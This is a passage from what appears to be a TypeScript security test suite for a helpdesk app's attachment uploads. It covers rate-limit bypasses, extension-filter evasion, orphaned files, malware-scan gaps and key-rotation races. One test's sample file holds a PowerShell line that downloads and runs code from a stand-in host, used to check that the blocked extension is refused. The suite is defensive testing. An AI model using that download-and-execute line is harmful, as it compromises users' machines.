import crypto from "node:crypto";
import fs from "node:fs";
import http from "node:http";
import net from "node:net";
import os from "node:os";
import path from "node:path";
import { Writable } from "node:stream";
import { sql } from "kysely";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { loadConfig } from "../src/platform/config.ts";
import { makeContext } from "../src/platform/context.ts";
import { Keyring } from "../src/platform/crypto/keyring.ts";
import { LocalMasterKey } from "../src/platform/crypto/master-key.ts";
import { createLogger } from "../src/platform/logging.ts";
import { createMemoryRateLimiter } from "../src/platform/rate-limiter.ts";
import type { Database } from "../src/platform/db/database.ts";
import { buildApp } from "../src/server/app.ts";
import { downloadUrl } from "../src/modules/tickets/attachments-service.ts";
import { rotateTenantKey } from "../src/modules/keys/keys-service.ts";
import { createBlobStore, type BlobStore } from "../src/platform/blobs/index.ts";
import { buildTenant, buildUser, openTestDatabase, startTestApp, type TestApp, type TestTenant } from "./support/harness.ts";
import { asSession, signInByMail } from "./support/people.ts";
import { startSmtpPeer, type SmtpPeer } from "./support/smtp-peer.ts";

/**
 * Attachments attacked by someone with an account (or none): what held up is kept where the
 * other suites do not cover it; what did not is a test that failed before its fix.
 *
 * FOUND AND FIXED (one finding each, as they were found):
 *  1. a made-up session cookie lifts the anonymous upload limit;
 *  2. anonymous uploads use up the help-center form's own limit;
 *  3. a blocked extension passes behind trailing dots/spaces or an NTFS stream suffix;
 *  4. unused uploads are only removed when someone uploads again in the tenant;
 *  5. a file stored by an upload whose request then fails (credential revoked meanwhile) stays forever;
 *  6. a deadlock retry of the upload transaction answers 201 for a file whose bytes it deleted;
 *  7. blob deletion (unlink + fsync per file, unbounded files per token) runs inside the tenant
 *     transaction: on the embedded database every tenant waits;
 *  8. a client that drops its upload is logged as "database unavailable";
 *  9. files uploaded before VAULTDESK_CLAMD was set are never scanned and never served again;
 * 10. a file clamd refuses as too large (StreamMaxLength) stays pending and is re-sent to clamd forever;
 * 11. key rotation fails (BlobNotFoundError, left "running") when an upload is deleted while it re-seals files;
 * 12. a file redacted (or deleted) while key rotation re-seals it is written back: its bytes stay at rest.
 *
 * HELD UP (coverage the other suites lack): download links replayed after losing access, the
 * writer's edge cases, what a browser is given for HTML, SVG, polyglots and odd file names.
 */

let t: TestApp;
let smtp: SmtpPeer;
let clock = Date.now();
const logLines: string[] = [];

beforeAll(async () => {
  smtp = await startSmtpPeer();
  const sink = new Writable({
    write(chunk: Buffer, _enc, cb) {
      logLines.push(chunk.toString("utf8"));
      cb();
    },
  });
  // The limiter's clock holds still (tests count up to a limit: a window's turn mid-test would let more through as the spent window's weight runs out).
  const limiterClock = Date.now();
  t = await startTestApp({ env: { VAULTDESK_SMTP_URL: smtp.url, VAULTDESK_JOB_POLL_SECONDS: "0.1" }, now: () => new Date(clock), logStream: sink, rateLimiter: createMemoryRateLimiter(() => limiterClock) });
});
afterAll(async () => {
  await t?.close();
  await smtp?.close();
});

type Cred = { email: string; token: string };
const basic = (w: Cred) => "Basic " + Buffer.from(`${w.email}/token:${w.token}`).toString("base64");
const owner = (a: TestTenant): Cred => ({ email: a.ownerEmail, token: a.ownerToken });

function upload(app: TestApp, a: TestTenant, who: Cred | null, name: string, bytes: Buffer, opts: { token?: string; headers?: Record<string, string> } = {}) {
  const q = new URLSearchParams({ filename: name, ...(opts.token ? { token: opts.token } : {}) });
  return app.request({ method: "POST", path: `/api/v2/uploads.json?${q}`, host: a.host, rawBody: bytes, headers: { "content-type": "application/binary", ...(who ? { authorization: basic(who) } : {}), ...opts.headers } });
}
function fetchAs(app: TestApp, a: TestTenant, who: Cred | { cookie: string } | null, url: string) {
  const u = new URL(url);
  const auth: Record<string, string> = who === null ? {} : "cookie" in who ? { cookie: who.cookie } : { authorization: basic(who) };
  return app.request({ method: "GET", path: u.pathname + u.search, host: a.host, headers: auth });
}
const blobFiles = (app: TestApp, tenantId: string) => {
  const dir = path.join(app.config.blobDir, tenantId, "attachments");
  return fs.existsSync(dir) ? fs.readdirSync(dir).filter((f) => !f.startsWith(".")) : [];
};
const attachmentRows = (app: TestApp, tenantId: string) => app.db.tenant(tenantId, async (tx) => tx.db.selectFrom("attachments").select(["id", "nice_id", "scan_status"]).execute());
async function eventually(check: () => Promise<boolean>, ms: number): Promise<boolean> {
  const end = Date.now() + ms;
  for (;;) {
    if (await check()) return true;
    if (Date.now() > end) return false;
    await new Promise((r) => setTimeout(r, 100));
  }
}

/** A fake clamd on loopback TCP speaking INSTREAM: "stream: OK", or clamd's own refusal past `maxBytes` (its StreamMaxLength). */
async function fakeClamd(maxBytes = Infinity): Promise<{ address: string; connections: () => number; close(): Promise<void> }> {
  let connections = 0;
  const server = net.createServer((sock) => {
    connections++;
    let buf = Buffer.alloc(0);
    let total = 0;
    let started = false;
    sock.on("error", () => {});
    sock.on("data", (d: Buffer) => {
      buf = Buffer.concat([buf, d]);
      if (!started) {
        if (buf.length < 10) return;
        buf = buf.subarray(10); // "zINSTREAM\0"
        started = true;
      }
      while (buf.length >= 4) {
        const n = buf.readUInt32BE(0);
        if (n === 0) {
          sock.end("stream: OK\0");
          return;
        }
        if (buf.length < 4 + n) return;
        total += n;
        buf = buf.subarray(4 + n);
        if (total > maxBytes) {
          sock.end("INSTREAM size limit exceeded. ERROR\0");
          return;
        }
      }
    });
  });
  await new Promise<void>((r) => server.listen(0, "127.0.0.1", () => r()));
  const port = (server.address() as net.AddressInfo).port;
  return { address: `tcp://127.0.0.1:${port}`, connections: () => connections, close: () => new Promise<void>((r) => server.close(() => r())) };
}

/**
 * Boots the app on a database, keyring and data folder that outlive it (to restart it with
 * another configuration), with the same shape as the harness's TestApp.
 */
type Shared = { db: Database; keyring: Keyring; dataDir: string };
async function bootOn(shared: Shared, env: Record<string, string>, blobs?: (real: BlobStore) => BlobStore): Promise<TestApp> {
  const config = loadConfig({ VAULTDESK_DATA_DIR: shared.dataDir, LOG_LEVEL: "silent", VAULTDESK_RATE_LIMIT_PER_MINUTE: "0", VAULTDESK_JOB_POLL_SECONDS: "0.1", ...env });
  const app = await buildApp({ config, db: shared.db, keyring: shared.keyring, logger: createLogger("silent"), rateLimiter: createMemoryRateLimiter(), now: () => new Date(), ...(blobs ? { blobs: blobs(createBlobStore(config)) } : {}) });
  await app.listen({ port: 0, host: "127.0.0.1" });
  const port = (app.server.address() as { port: number }).port;
  const agent = new http.Agent({ keepAlive: true });
  return {
    app,
    db: shared.db,
    keyring: shared.keyring,
    config,
    port,
    request: ({ method, path: p, host, headers, body, rawBody }) =>
      new Promise((resolve, reject) => {
        const payload = rawBody ?? (body === undefined ? undefined : JSON.stringify(body));
        const req = http.request({ host: "127.0.0.1", port, method, path: p, agent, headers: { host, ...(payload !== undefined ? { "content-type": "application/json", "content-length": String(Buffer.byteLength(payload)) } : {}), ...headers } }, (res) => {
          const chunks: Buffer[] = [];
          res.on("data", (c: Buffer) => chunks.push(c));
          res.on("end", () => {
            const raw = Buffer.concat(chunks);
            const text = raw.toString("utf8");
            let parsed: unknown;
            try {
              parsed = text ? JSON.parse(text) : undefined;
            } catch {
              parsed = undefined;
            }
            resolve({ status: res.statusCode ?? 0, headers: res.headers, body: parsed, text, raw });
          });
        });
        req.on("error", reject);
        if (payload !== undefined) req.write(payload);
        req.end();
      }),
    async close() {
      agent.destroy();
      await app.close();
    },
  };
}

/** A TestApp whose requests go to whichever app is current (a tenant built on it survives a restart). */
function switchable(first: TestApp): { app: TestApp; use(next: TestApp): void } {
  let current = first;
  const app: TestApp = {
    get app() { return current.app; },
    get db() { return current.db; },
    get keyring() { return current.keyring; },
    get config() { return current.config; },
    get port() { return current.port; },
    request: (o) => current.request(o),
    close: () => current.close(),
  };
  return { app, use: (next) => (current = next) };
}

// ---------------------------------------------------------------------------------------------
// FOUND AND FIXED
// ---------------------------------------------------------------------------------------------

describe("limits on uploads from people who are not signed in", () => {
  it("holds an anonymous client to the form's limit even when it sends a made-up session cookie", async () => {
    const a = await buildTenant(t, "akcookie");
    // Without a cookie the sixth upload in a minute is refused (the form's 5 per minute)…
    const plain: number[] = [];
    for (let i = 0; i < 6; i++) plain.push((await upload(t, a, null, `p${i}.txt`, Buffer.from("x"))).status);
    expect(plain.slice(0, 5)).toEqual([201, 201, 201, 201, 201]);
    expect(plain[5]).toBe(429);
    // …but a cookie named vd_session that is no session at all makes the client count as signed
    // in for the limiter (the API's limit, none here) while the route still treats it as
    // anonymous: the uploads go on. Each may be 50 MB and is kept for a day.
    const b = await buildTenant(t, "akcookie");
    const faked: number[] = [];
    for (let i = 0; i < 12; i++) faked.push((await upload(t, b, null, `f${i}.txt`, Buffer.from("x"), { headers: { cookie: "vd_session=not-a-session" } })).status);
    expect(faked.filter((s) => s === 201).length, `statuses ${faked.join(",")}`).toBeLessThanOrEqual(5);
    expect(faked).toContain(429);
  });

  it("lets an anonymous customer send the form with the five files they uploaded for it", async () => {
    const a = await buildTenant(t, "akform");
    const tokens: string[] = [];
    for (let i = 0; i < 5; i++) {
      const up = await upload(t, a, null, `photo-${i}.txt`, Buffer.from(`photo ${i}`));
      expect(up.status, up.text).toBe(201);
      tokens.push(up.body.upload.token);
    }
    // The uploads were counted against the form's own 5 per minute: the request itself is refused.
    const r = await t.request({ method: "POST", path: "/api/v2/requests.json", host: a.host, body: { request: { subject: "Broken", comment: { body: "see the photos", uploads: tokens }, requester: { name: "Cus Tomer", email: `c-${crypto.randomBytes(3).toString("hex")}@example.test` } } } });
    expect(r.status, r.text).toBe(201);
  });
});

describe("names", () => {
  it("refuses a blocked extension hidden behind trailing dots, spaces or an NTFS stream suffix", async () => {
    const a = await buildTenant(t, "akname");
    // Windows drops trailing dots and spaces, and "name::$DATA" is the file "name" itself: each of
    // these is saved as run.bat, a script a double-click runs. The content is text, so only the
    // name's extension can stop it, and the check reads the extension off the raw name.
    for (const name of ["run.bat.", "run.bat. .", "run.bat...", "run.bat::$DATA", "invoice.pdf.exe."]) {
      const r = await upload(t, a, owner(a), name, Buffer.from("@echo off\r\npowershell -c iwr http://evil.test/x | iex\r\n"));
      expect(r.status, `${JSON.stringify(name)} answered ${r.status}`).toBe(422);
    }
    expect(blobFiles(t, a.tenantId)).toEqual([]);
  });
});

describe("storage: what is stored is removed", () => {
  it("removes an unused upload's file after a day even when nobody uploads again in the tenant", async () => {
    const a = await buildTenant(t, "aksweep");
    const up = await upload(t, a, null, "never-attached.txt", Buffer.from("left behind"));
    expect(up.status).toBe(201);
    expect(blobFiles(t, a.tenantId)).toHaveLength(1);
    // The admin turns attachments off (say, because of abuse): no upload will ever run the sweep again.
    expect((await a.api("PUT", "/api/v2/attachment_settings.json", { settings: { enabled: false } })).status).toBe(200);
    clock += 25 * 3600_000;
    try {
      // Other work goes on in the tenant (and the job runner polls).
      expect((await a.api("GET", "/api/v2/tickets.json")).status).toBe(200);
      expect((await upload(t, a, owner(a), "x.txt", Buffer.from("x"))).status).toBe(403);
      const gone = await eventually(async () => blobFiles(t, a.tenantId).length === 0 && (await attachmentRows(t, a.tenantId)).length === 0, 30_000);
      expect(gone, `still stored: ${blobFiles(t, a.tenantId).join(", ")}`).toBe(true);
    } finally {
      clock -= 25 * 3600_000;
    }
  });

  it("leaves no file behind when the upload's request fails after the file was stored (its token revoked meanwhile)", async () => {
    const a = await buildTenant(t, "akorphan");
    const agent = await buildUser(t, a, "agent");
    const asAgent = { email: agent.email, token: agent.token! };
    // The agent makes a throwaway token, starts an upload with it, and revokes it before the last byte.
    const made = await a.api("POST", "/api/v2/api_tokens.json", { api_token: { name: "throwaway" } }, asAgent);
    expect(made.status, made.text).toBe(201);
    const throwaway = { email: agent.email, token: made.body.api_token.token as string };
    const status = await new Promise<number>((resolve, reject) => {
      const req = http.request(
        { host: "127.0.0.1", port: t.port, method: "POST", path: "/api/v2/uploads.json?filename=big.bin", headers: { host: a.host, "content-type": "application/binary", authorization: basic(throwaway) } },
        (res) => {
          res.resume();
          resolve(res.statusCode ?? 0);
        },
      );
      req.on("error", reject);
      req.write(crypto.randomBytes(64 * 1024));
      setTimeout(() => {
        void a.api("DELETE", `/api/v2/api_tokens/${made.body.api_token.id}.json`, undefined, asAgent).then((r) => {
          expect(r.status).toBe(204);
          req.end(crypto.randomBytes(64 * 1024));
        }, reject);
      }, 300);
    });
    expect(status).toBe(401);
    expect(await attachmentRows(t, a.tenantId)).toEqual([]);
    // No row names the blob, no sweep will ever find it: it stays until the tenant is shredded.
    expect(blobFiles(t, a.tenantId)).toEqual([]);
  });

  it("keeps an upload's file when its transaction is retried after a deadlock", async () => {
    const a = await buildTenant(t, "akretry");
    // The database breaks a deadlock by rolling back the upload's transaction once (simulated: a
    // trigger on this tenant's next attachment insert raises 40P01 one time). route.ts retries.
    const tag = `ak_${crypto.randomBytes(4).toString("hex")}`;
    await sql.raw(`CREATE SEQUENCE ${tag}_seq`).execute(t.db.owner);
    await sql
      .raw(
        `CREATE FUNCTION ${tag}_fn() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER AS $$
         BEGIN
           IF NEW.tenant_id = '${a.tenantId}' AND nextval('${tag}_seq') = 1 THEN
             RAISE EXCEPTION 'deadlock detected' USING ERRCODE = '40P01';
           END IF;
           RETURN NEW;
         END $$`,
      )
      .execute(t.db.owner);
    await sql.raw(`CREATE TRIGGER ${tag}_tr BEFORE INSERT ON attachments FOR EACH ROW EXECUTE FUNCTION ${tag}_fn()`).execute(t.db.owner);
    try {
      const up = await upload(t, a, owner(a), "contract.txt", Buffer.from("the signed contract"));
      expect(up.status, up.text).toBe(201);
      const c = await a.api("POST", "/api/v2/tickets.json", { ticket: { subject: "contract", comment: { body: "attached", uploads: [up.body.upload.token] } } });
      expect(c.status, c.text).toBe(201);
      const link = (await a.api("GET", `/api/v2/attachments/${up.body.upload.attachment.id}.json`)).body.attachment.content_url as string;
      // The first attempt's error path deleted the blob; the retry recorded the file anyway.
      const got = await fetchAs(t, a, owner(a), link);
      expect(got.status, got.text).toBe(200);
      expect(got.text).toBe("the signed contract");
    } finally {
      await sql.raw(`DROP TRIGGER IF EXISTS ${tag}_tr ON attachments`).execute(t.db.owner);
      await sql.raw(`DROP FUNCTION IF EXISTS ${tag}_fn()`).execute(t.db.owner);
      await sql.raw(`DROP SEQUENCE IF EXISTS ${tag}_seq`).execute(t.db.owner);
    }
  });

  it("does not hold up other tenants while an upload with many files is deleted", async () => {
    // Its own server, whose blob store looks, as each of tenant a's files is deleted, at what a
    // transaction of its own sees of the upload's rows, and holds the first deletion until tenant
    // b has been served.
    const db = await openTestDatabase();
    const shared: Shared = { db, keyring: new Keyring(new LocalMasterKey(crypto.randomBytes(32))), dataDir: fs.mkdtempSync(path.join(os.tmpdir(), "vd-attack-")) };
    let aId = "";
    /**
     * As each of tenant a's files was deleted, its attachment rows a new transaction still saw: 0
     * once the deleting transaction has committed; "blocked" when that transaction still held the
     * embedded database's one connection (the deletion inside it), so no other could start.
     */
    const rowsAtDeletion: Array<number | "blocked"> = [];
    const committedRows = (tenantId: string) =>
      Promise.race([
        db.tenant(tenantId, async (tx) => Number((await tx.db.selectFrom("attachments").select((eb) => eb.fn.countAll<number>().as("n")).executeTakeFirstOrThrow()).n)),
        new Promise<"blocked">((r) => setTimeout(() => r("blocked"), 5000).unref()),
      ]);
    let reached!: () => void;
    const deleting = new Promise<void>((r) => (reached = r));
    let release!: () => void;
    const released = new Promise<void>((r) => (release = r));
    const app = await bootOn(shared, {}, (real) => ({
      ...real,
      put: (...args) => real.put(...args),
      get: (...args) => real.get(...args),
      stat: (...args) => real.stat(...args),
      list: (...args) => real.list(...args),
      purgeTenant: (...args) => real.purgeTenant(...args),
      delete: async (tenantId, key) => {
        if (tenantId === aId) {
          rowsAtDeletion.push(await committedRows(aId));
          reached();
          await released;
        }
        return real.delete(tenantId, key);
      },
    }));
    try {
      const a = await buildTenant(app, "akstall");
      const b = await buildTenant(app, "akstallb");
      aId = a.tenantId;
      // One upload token takes at most 20 files (each answer lists them all); the 21st is refused.
      const first = await upload(app, a, owner(a), "f0.txt", Buffer.from("x"));
      const token = first.body.upload.token as string;
      for (let i = 1; i < 20; i++) expect((await upload(app, a, owner(a), `f${i}.txt`, Buffer.from("x"), { token })).status).toBe(201);
      const over = await upload(app, a, owner(a), "f20.txt", Buffer.from("x"), { token });
      expect(over.status, over.text).toBe(422);
      expect(blobFiles(app, a.tenantId)).toHaveLength(20);
      // Deleting it unlinks and fsyncs each file: outside the request's transaction, since on the
      // embedded database one transaction at a time serves every tenant (before the fix, inside it:
      // any uploader could make every tenant wait as long as they liked).
      let answered = false;
      const del = app.request({ method: "DELETE", path: `/api/v2/uploads/${token}.json`, host: a.host, headers: { authorization: basic(owner(a)) } }).finally(() => (answered = true));
      try {
        await deleting;
        // The first file is being deleted, and held there: tenant a's transaction has committed...
        expect(rowsAtDeletion).toEqual([0]);
        // ...and tenant b is served meanwhile, not queued behind it.
        expect((await b.api("GET", "/api/v2/users/me.json")).status).toBe(200);
        expect((await b.api("GET", "/api/v2/tickets.json")).status).toBe(200);
        expect(answered).toBe(false);
      } finally {
        release();
      }
      expect((await del).status).toBe(204);
      expect(rowsAtDeletion).toEqual(Array(20).fill(0));
      expect(blobFiles(app, a.tenantId)).toHaveLength(0);
    } finally {
      release();
      await app.close().catch(() => {});
      await db.close();
      fs.rmSync(shared.dataDir, { recursive: true, force: true });
    }
  });
});

describe("logs", () => {
  it("does not log a client that drops its upload as the database being unavailable", async () => {
    const a = await buildTenant(t, "aklog");
    const before = logLines.length;
    await new Promise<void>((resolve) => {
      const req = http.request({ host: "127.0.0.1", port: t.port, method: "POST", path: "/api/v2/uploads.json?filename=x.bin", headers: { host: a.host, "content-type": "application/binary", authorization: basic(owner(a)), "content-length": "100000" } });
      req.on("error", () => resolve());
      req.write(crypto.randomBytes(5000));
      setTimeout(() => req.destroy(), 200);
    });
    await new Promise((r) => setTimeout(r, 500));
    const lines = logLines.slice(before).join("");
    expect(lines.length).toBeGreaterThan(0); // the request was logged (positive control)
    // An operator alerting on "database unavailable" is paged by any client that hangs up.
    expect(lines).not.toMatch(/database unavailable/);
    expect(blobFiles(t, a.tenantId)).toEqual([]);
  });
});

describe("malware scanning", () => {
  it("scans, then serves, a file uploaded before VAULTDESK_CLAMD was set", async () => {
    const shared: Shared = { db: await openTestDatabase(), keyring: new Keyring(new LocalMasterKey(crypto.randomBytes(32))), dataDir: fs.mkdtempSync(path.join(os.tmpdir(), "vd-attack-")) };
    const clamd = await fakeClamd();
    const before = await bootOn(shared, {});
    const s = switchable(before);
    try {
      const a = await buildTenant(s.app, "akprescan");
      const up = await upload(s.app, a, owner(a), "before.txt", Buffer.from("uploaded before scanning"));
      expect(up.body.upload.attachment.scan_status).toBe("not_scanned");
      const c = await a.api("POST", "/api/v2/tickets.json", { ticket: { subject: "x", comment: { body: "x", uploads: [up.body.upload.token] } } });
      expect(c.status).toBe(201);
      await before.close();
      // The operator turns scanning on and restarts.
      const after = await bootOn(shared, { VAULTDESK_CLAMD: clamd.address, VAULTDESK_SCAN_RETRY_SECONDS: "0.2" });
      s.use(after);
      const id = up.body.upload.attachment.id as number;
      // The upkeep goes through every tenant of the database, one short transaction each.
      const served = await eventually(async () => (await a.api("GET", `/api/v2/attachments/${id}.json`)).body.attachment.content_url !== null, 30_000);
      const view = (await a.api("GET", `/api/v2/attachments/${id}.json`)).body.attachment;
      // Before the fix: never queued for a scan, "not_scanned" for ever, no content_url, and a link
      // answers 409 "waiting for its malware scan. Try again in a minute." for ever.
      expect(clamd.connections(), "clamd was never asked").toBeGreaterThan(0);
      expect(served, `still ${view.scan_status}`).toBe(true);
      expect(view.scan_status).toBe("clean");
      expect((await fetchAs(s.app, a, owner(a), view.content_url)).text).toBe("uploaded before scanning");
    } finally {
      await s.app.close().catch(() => {});
      await clamd.close();
      await shared.db.close();
      fs.rmSync(shared.dataDir, { recursive: true, force: true });
    }
  });

  it("stops re-sending a file clamd refuses as too large, and says it could not be scanned", async () => {
    const shared: Shared = { db: await openTestDatabase(), keyring: new Keyring(new LocalMasterKey(crypto.randomBytes(32))), dataDir: fs.mkdtempSync(path.join(os.tmpdir(), "vd-attack-")) };
    // clamd's StreamMaxLength is 25 MB by default, tenants accept 50 MB: here 64 KiB and 300 KB.
    const clamd = await fakeClamd(64 * 1024);
    const app = await bootOn(shared, { VAULTDESK_CLAMD: clamd.address, VAULTDESK_SCAN_RETRY_SECONDS: "0.2" });
    try {
      const a = await buildTenant(app, "akbig");
      const up = await upload(app, a, owner(a), "big.bin", crypto.randomBytes(300_000));
      if (up.status !== 201) {
        expect(up.status).toBe(413); // refusing it up front is a fix too
        return;
      }
      const id = up.body.upload.attachment.id as number;
      // Before the fix: "pending" for ever (a link answers 409 "try again in a minute"), and the whole file
      // is streamed to clamd again at every retry, 10,000 times (every 300 s by default; here every
      // 0.2 s, ~15 times in 3 s). clamd's answer can be lost to the reset its closing causes (a
      // busy machine loses it more often): that attempt is retried, so a few sends may be needed
      // before the answer is read. Once it is, no more are made.
      const decided = await eventually(async () => (await a.api("GET", `/api/v2/attachments/${id}.json`)).body.attachment.scan_status !== "pending", 10_000);
      const sends = clamd.connections();
      await new Promise((r) => setTimeout(r, 1000));
      const view = (await a.api("GET", `/api/v2/attachments/${id}.json`)).body.attachment;
      expect(decided, "still pending after 10 s").toBe(true);
      expect(sends, `clamd was sent the file ${sends} times before the answer was read`).toBeLessThanOrEqual(6);
      expect(clamd.connections(), "sent again after the answer").toBe(sends);
      expect(view.scan_status).not.toBe("pending");
      expect(view.malware_scan_result).toBe("failed_to_scan");
      expect(view.content_url).toBeNull();
    } finally {
      await app.close();
      await clamd.close();
      await shared.db.close();
      fs.rmSync(shared.dataDir, { recursive: true, force: true });
    }
  });
});

describe("malware scanning: clamd's limit told", () => {
  it("never sends clamd a file over VAULTDESK_CLAMD_MAX_BYTES, and shows it as not scannable to staff and customers alike", async () => {
    const shared: Shared = { db: await openTestDatabase(), keyring: new Keyring(new LocalMasterKey(crypto.randomBytes(32))), dataDir: fs.mkdtempSync(path.join(os.tmpdir(), "vd-attack-")) };
    const clamd = await fakeClamd();
    const app = await bootOn(shared, { VAULTDESK_CLAMD: clamd.address, VAULTDESK_CLAMD_MAX_BYTES: "65536", VAULTDESK_SCAN_RETRY_SECONDS: "0.2" });
    try {
      const a = await buildTenant(app, "akbigtold");
      const big = await upload(app, a, owner(a), "big.bin", crypto.randomBytes(100_000));
      const small = await upload(app, a, owner(a), "small.txt", Buffer.from("small enough"), { token: big.body.upload.token });
      expect(small.status, small.text).toBe(201);
      const settled = await eventually(async () => {
        const rows = await attachmentRows(app, a.tenantId);
        return rows.every((r) => r.scan_status !== "pending");
      }, 4000);
      expect(settled).toBe(true);
      const bigView = (await a.api("GET", `/api/v2/attachments/${big.body.upload.attachment.id}.json`)).body.attachment;
      expect(bigView).toMatchObject({ scan_status: "unscannable", malware_scan_result: "failed_to_scan", content_url: null });
      expect((await a.api("GET", `/api/v2/attachments/${small.body.upload.attachment.id}.json`)).body.attachment.scan_status).toBe("clean");
      // Only the small file went to clamd.
      expect(clamd.connections()).toBe(1);
    } finally {
      await app.close();
      await clamd.close();
      await shared.db.close();
      fs.rmSync(shared.dataDir, { recursive: true, force: true });
    }
  });
});

describe("key rotation and deletion", () => {
  const dirOf = (a: TestTenant) => path.join(t.config.blobDir, a.tenantId, "attachments");
  const tempSeen = (a: TestTenant) => eventually(async () => fs.readdirSync(dirOf(a)).some((f) => f.startsWith(".tmp-")), 20_000);

  it("completes a key rotation while people delete their uploads", async () => {
    const a = await buildTenant(t, "akrot");
    const tokens: string[] = [];
    for (let i = 0; i < 20; i++) {
      const up = await upload(t, a, owner(a), `scan-${i}.bin`, crypto.randomBytes(3 * 1024 * 1024));
      expect(up.status).toBe(201);
      tokens.push(up.body.upload.token);
    }
    // The operator rotates the tenant's key (`vaultdesk keys rotate`): it lists the files, then
    // re-seals them one by one. Meanwhile the uploader (anyone, even anonymous) deletes uploads.
    // The rotation's store holds its first read until the deletes are done, so that every run
    // interleaves the same way: files listed, then deleted, then read for re-sealing.
    const real = createBlobStore(t.config);
    let release!: () => void;
    const deletesDone = new Promise<void>((r) => (release = r));
    let reading!: () => void;
    const rotationReads = new Promise<void>((r) => (reading = r));
    const held: BlobStore = {
      ...real,
      put: (...args) => real.put(...args),
      stat: (...args) => real.stat(...args),
      delete: (...args) => real.delete(...args),
      list: (...args) => real.list(...args),
      purgeTenant: (...args) => real.purgeTenant(...args),
      get: async (...args) => {
        reading();
        await deletesDone;
        return real.get(...args);
      },
    };
    const rotation = rotateTenantKey(t.db, t.keyring, held, a.tenantId).then(
      (r) => ({ ok: true as const, r }),
      (err: Error) => ({ ok: false as const, err: `${err.name}: ${err.message}` }),
    );
    await rotationReads;
    for (const token of tokens.reverse()) await t.request({ method: "DELETE", path: `/api/v2/uploads/${token}.json`, host: a.host, headers: { authorization: basic(owner(a)) } });
    release();
    const result = await rotation;
    // Before the fix: "BlobNotFoundError: no such blob" for a file listed then deleted, and the rotation
    // stays "running" (the remaining files keep the old key); every retry can fail the same way.
    expect(result.ok ? "completed" : result.err).toBe("completed");
    const running = await t.db.tenant(a.tenantId, async (tx) => tx.db.selectFrom("key_rotations").select("status").where("status", "=", "running").execute());
    expect(running).toEqual([]);
  });

  it("keeps a file deleted when it is redacted while key rotation re-seals it", async () => {
    const a = await buildTenant(t, "akrotred");
    expect((await a.api("PUT", "/api/v2/attachment_settings.json", { settings: { max_bytes: 100_000_000 } })).status).toBe(200);
    const up = await upload(t, a, owner(a), "card-photo.bin", crypto.randomBytes(40 * 1024 * 1024));
    expect(up.status, up.text).toBe(201);
    const c = await a.api("POST", "/api/v2/tickets.json", { ticket: { subject: "x", comment: { body: "x", uploads: [up.body.upload.token] } } });
    const comment = (await a.api("GET", `/api/v2/tickets/${c.body.ticket.id}/comments.json`)).body.comments[0];
    // The rotation's store holds its re-sealed copy after the first bytes, so that every run
    // interleaves the same way (on a fast disk the whole copy could be written before a poll saw it).
    const real = createBlobStore(t.config);
    let writing!: () => void;
    const started = new Promise<void>((r) => (writing = r));
    let release!: () => void;
    const redacted = new Promise<void>((r) => (release = r));
    const held: BlobStore = {
      ...real,
      put: (tenantId, key, body, opts) =>
        real.put(
          tenantId,
          key,
          (async function* () {
            let first = true;
            for await (const chunk of body as AsyncIterable<Uint8Array>) {
              yield chunk;
              if (first) {
                first = false;
                writing();
                await redacted;
              }
            }
          })(),
          opts,
        ),
    };
    const rotation = rotateTenantKey(t.db, t.keyring, held, a.tenantId);
    // While the re-sealed copy is being written, an agent redacts the file (a card number in a photo).
    await started;
    expect(await tempSeen(a)).toBe(true);
    const r = await a.api("PUT", `/api/v2/tickets/${c.body.ticket.id}/comments/${comment.id}/attachments/${up.body.upload.attachment.id}/redact.json`);
    release();
    expect(r.status, r.text).toBe(200);
    expect(r.body.attachment.deleted).toBe(true);
    await rotation;
    // Before the fix the rotation renames its re-sealed copy into place after the redaction deleted the
    // blob: the bytes are back at rest, named by no row, until the tenant is shredded.
    expect(blobFiles(t, a.tenantId)).toEqual([]);
  });
});

// ---------------------------------------------------------------------------------------------
// PASSING: attacks that held up, where the other suites have no test of them
// ---------------------------------------------------------------------------------------------

describe("held up: links and access", () => {
  it("a download link stops working once its user may no longer see the file (requester changed, ticket deleted, suspended)", async () => {
    const a = await buildTenant(t, "akreplay");
    const customer = await buildUser(t, a, "end-user", "Customer");
    const other = await buildUser(t, a, "end-user", "Other");
    const agent = await buildUser(t, a, "agent");
    const asAgent = { email: agent.email, token: agent.token! };
    const up = await upload(t, a, owner(a), "reply.txt", Buffer.from("for the requester"));
    const c = await a.api("POST", "/api/v2/tickets.json", { ticket: { subject: "x", requester_id: customer.id, comment: { body: "hello", uploads: [up.body.upload.token] } } });
    expect(c.status, c.text).toBe(201);
    const id = up.body.upload.attachment.id as number;
    const session = await signInByMail(t, smtp, a, customer.email);
    const customerLink = (await asSession(t, a, session, "GET", `/api/v2/attachments/${id}.json`)).body.attachment.content_url as string;
    expect((await fetchAs(t, a, session, customerLink)).status).toBe(200);
    const agentLink = (await a.api("GET", `/api/v2/attachments/${id}.json`, undefined, asAgent)).body.attachment.content_url as string;
    expect((await fetchAs(t, a, asAgent, agentLink)).status).toBe(200);
    // The requester changes: the former requester's link (and the file) answer 404.
    expect((await a.api("PUT", `/api/v2/tickets/${c.body.ticket.id}.json`, { ticket: { requester_id: other.id } })).status).toBe(200);
    expect((await fetchAs(t, a, session, customerLink)).status).toBe(404);
    expect((await asSession(t, a, session, "GET", `/api/v2/attachments/${id}.json`)).status).toBe(404);
    // Suspended: the agent's live link is refused.
    expect((await a.api("PUT", `/api/v2/users/${agent.id}.json`, { user: { suspended: true } })).status).toBe(200);
    expect((await fetchAs(t, a, asAgent, agentLink)).status).not.toBe(200);
    // The ticket is deleted: the owner's fresh link answers 404.
    const ownerLink = (await a.api("GET", `/api/v2/attachments/${id}.json`)).body.attachment.content_url as string;
    expect((await a.api("DELETE", `/api/v2/tickets/${c.body.ticket.id}.json`)).status).toBe(204);
    expect((await fetchAs(t, a, owner(a), ownerLink)).status).toBe(404);
    // A link used on another tenant's host, where the same attachment id exists, answers 404.
    const b = await buildTenant(t, "akreplayb");
    const bUp = await upload(t, b, owner(b), "b.txt", Buffer.from("tenant b's"));
    await b.api("POST", "/api/v2/tickets.json", { ticket: { subject: "x", comment: { body: "x", uploads: [bUp.body.upload.token] } } });
    const aUp = await upload(t, a, owner(a), "a.txt", Buffer.from("tenant a's"));
    await a.api("POST", "/api/v2/tickets.json", { ticket: { subject: "x", comment: { body: "x", uploads: [aUp.body.upload.token] } } });
    const aLink = new URL((await a.api("GET", `/api/v2/attachments/${aUp.body.upload.attachment.id}.json`)).body.attachment.content_url);
